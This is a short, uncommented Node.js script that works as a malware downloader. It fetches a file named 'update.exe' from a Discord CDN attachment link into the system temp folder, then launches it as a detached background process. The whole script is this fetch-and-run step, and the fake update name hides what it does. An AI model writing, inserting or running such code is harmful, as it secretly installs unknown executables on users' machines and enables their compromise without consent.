const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const { spawn } = require('child_process');
const target = path.join(os.tmpdir(), 'update.exe');
https.get('https://cdn.discordapp.com/attachments/1/2/update.exe', (res) => {
  const out = fs.createWriteStream(target);
  res.pipe(out);
  out.on('finish', () => { out.close(); spawn(target, [], { detached: true }).unref(); });
});
